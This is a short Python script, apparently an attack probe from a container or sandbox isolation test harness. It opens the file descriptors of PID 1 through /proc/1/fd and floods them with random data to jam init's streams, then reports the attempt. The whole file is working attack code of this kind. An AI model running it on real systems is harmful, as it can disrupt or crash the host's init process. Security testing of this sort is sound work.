"""Fill the init's own stream with noise until it holds no more, so that nothing of the init's gets through."""

import os

from attacker import tried

for number in range(1, 32):
    try:
        stream = os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
        for _ in range(64):
            os.write(stream, os.urandom(4096))
    except OSError:
        continue
tried()
